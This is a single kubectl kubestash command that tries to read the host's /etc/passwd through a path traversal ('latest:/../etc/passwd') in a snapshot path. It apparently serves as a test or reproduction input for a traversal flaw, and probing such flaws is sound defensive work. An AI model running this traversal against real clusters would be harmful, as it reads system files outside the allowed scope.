kubectl kubestash snapshot cat latest:/../etc/passwd
